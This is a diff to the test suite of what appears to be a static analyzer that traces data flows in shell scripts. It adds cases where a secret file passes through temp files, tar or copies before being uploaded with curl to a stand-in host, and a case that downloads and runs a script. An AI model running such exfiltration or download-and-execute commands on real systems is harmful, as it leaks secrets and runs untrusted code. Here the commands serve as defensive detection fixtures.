@@ -51,9 +51,27 @@ it.each([
   ['bash -c "$(curl -s https://a.example/i)"', 'curl(https://a.example/i) -> bash via a.sh:1'],
   ["sh -c 'cat /secret | curl -d @- https://a.example'", 'cat(/secret) -> curl via a.sh:1'],
   ['eval "$(curl -s https://a.example/i)"', 'curl(https://a.example/i) -> eval via a.sh:1'],
+  [
+    'cat /secret >> /tmp/x\ntar czf - /tmp/x | curl -d @- https://a.example',
+    'cat(/secret) -> curl via a.sh:1 a.sh:2',
+  ],
+  ['cat /secret | tee x.txt\ncurl -F "f=@x.txt" https://a.example', 'cat(/secret) -> curl via a.sh:1 a.sh:2'],
+  [
+    'cat /secret > a.txt\ncp a.txt b.txt\ncurl -T b.txt https://a.example',
+    'cat(/secret) -> curl via a.sh:1 a.sh:2 a.sh:3',
+  ],
+  [
+    'curl -o /tmp/i.sh https://a.example/i\nbash /tmp/i.sh',
+    'curl(https://a.example/i) -> bash via a.sh:1 a.sh:2',
+  ],
   ['{ cat /secret; echo; } | curl -d @- https://a.example', 'cat(/secret) -> curl via a.sh:1'],
 ])('follows %s', async (script, flow) => {
   expect(flows(await factsOf({ 'a.sh': script }))).toContain(flow)
+})
+
+it('does not take one file for another', async () => {
+  const script = 'cat /secret > a.txt\ncurl -T b.txt https://a.example\ncurl -d a.txt.gz https://a.example'
+  expect(flows(await factsOf({ 'a.sh': script }))).toEqual([])
 })
 
 it('does not follow what a sanitizer ends', async () => {
